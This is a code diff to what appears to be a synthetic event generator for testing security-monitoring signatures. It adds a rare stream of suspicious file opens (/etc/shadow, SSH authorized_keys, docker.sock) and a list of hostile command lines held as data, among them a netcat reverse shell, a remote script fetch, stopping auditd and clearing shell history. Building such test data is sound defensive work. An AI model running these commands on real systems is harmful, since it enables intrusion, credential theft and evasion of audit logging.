@@ -24,6 +24,20 @@ ROOM_CELLS = FRAME_CELLS - 150
 """A frame is closed when the longest record might not fit."""
 DISTINCT_PATHS = 100_000
 PROCESSES = 200
+ODD_ONES = 1000
+"""One in so many opens and execs is what signatures look for."""
+ODD_PATHS = ("/etc/shadow", "/etc/sudoers", "/proc/1/mem", "/home/a/.ssh/authorized_keys", "/var/run/docker.sock")
+ODD_COMMANDS = (
+    "nc -e /bin/sh 10.0.0.1 4444",
+    "base64 -d /tmp/x",
+    "chattr -i /etc/passwd",
+    "systemctl stop auditd",
+    "bash -i",
+    "curl -k http://10.0.0.1/x.sh",
+    "cat /etc/shadow",
+    "crontab -l",
+    "history -c",
+)
 LETTERS = "abcdefghijklmnopqrstuvwxyz0123456789"
 
 
@@ -100,17 +114,19 @@ def walked(path: str) -> bytes:
     return b"".join(part.encode() + b"\0" for part in reversed(path.strip("/").split("/"))) + b"/\0"
 
 
-def _word(chance: random.Random, least: int = 3, most: int = 10) -> str:
+def word(chance: random.Random, least: int = 3, most: int = 10) -> str:
+    """Letters and digits."""
     return "".join(chance.choices(LETTERS, k=chance.randint(least, most)))
 
 
 def mixed(events: int, seed: int = 1) -> list[Array]:
     """Half opens of DISTINCT_PATHS paths, 39 in 100 reads, 10 connects, 1 exec."""
     chance = random.Random(seed)
-    folders = ["/".join(_word(chance) for _ in range(chance.randint(1, 4))) for _ in range(500)]
-    paths = [walked(f"/{chance.choice(folders)}/{_word(chance)}{i}.dat") for i in range(DISTINCT_PATHS)]
+    folders = ["/".join(word(chance) for _ in range(chance.randint(1, 4))) for _ in range(500)]
+    paths = [walked(f"/{chance.choice(folders)}/{word(chance)}{i}.dat") for i in range(DISTINCT_PATHS)]
     who = [context(1000 + i, f"p{i % 40}".encode()) for i in range(PROCESSES)]
-    frames, made = Frames(), []
+    frames = Frames()
+    made: list[Array] = []
     for i in range(events):
         time_ns = 1_000_000 + i * 1000
         made += frames.add(who[(i // 64) % PROCESSES], _one(chance, paths, time_ns), time_ns)
@@ -121,7 +137,7 @@ def _one(chance: random.Random, paths: list[bytes], time_ns: int) -> tuple[int, 
     kind = chance.random()
     if kind < 0.5:
         flags = 0o100001 if chance.random() < 0.2 else 0o100000
-        path = chance.choice(paths)
+        path = chance.choice(paths) if chance.randrange(ODD_ONES) else walked(chance.choice(ODD_PATHS))
         return record("security_file_open", time_ns, [0, flags, 1, 2, 3, 0, 257], {0: path, 5: path})
     if kind < 0.89:
         return record("read", time_ns, [3, 0x7000, 4096], {}, retval=chance.randint(0, 4096))
@@ -133,9 +149,10 @@ def _one(chance: random.Random, paths: list[bytes], time_ns: int) -> tuple[int, 
 
 def executed(chance: random.Random, time_ns: int) -> tuple[int, bytes]:
     """An exec with a command line that no other has."""
-    name = _word(chance)
-    path = f"/usr/bin/{name}"
-    argv = [name, *(_word(chance, 2, 16) for _ in range(6)), str(time_ns)]
+    argv = [word(chance), *(word(chance, 2, 16) for _ in range(6)), str(time_ns)]
+    if not chance.randrange(ODD_ONES):
+        argv = chance.choice(ODD_COMMANDS).split()
+    path = f"/usr/bin/{argv[0]}"
     texts = {
         0: path.encode() + b"\0",
         1: walked(path),
@@ -152,7 +169,8 @@ def executed(chance: random.Random, time_ns: int) -> tuple[int, bytes]:
 def exec_storm(events: int, seed: int = 2) -> list[Array]:
     """Every process runs once, each with a command line of its own."""
     chance = random.Random(seed)
-    frames, made = Frames(), []
+    frames = Frames()
+    made: list[Array] = []
     for i in range(events):
         time_ns = 1_000_000 + i * 1000
         made += frames.add(context(1000 + i, b"run"), executed(chance, time_ns), time_ns)
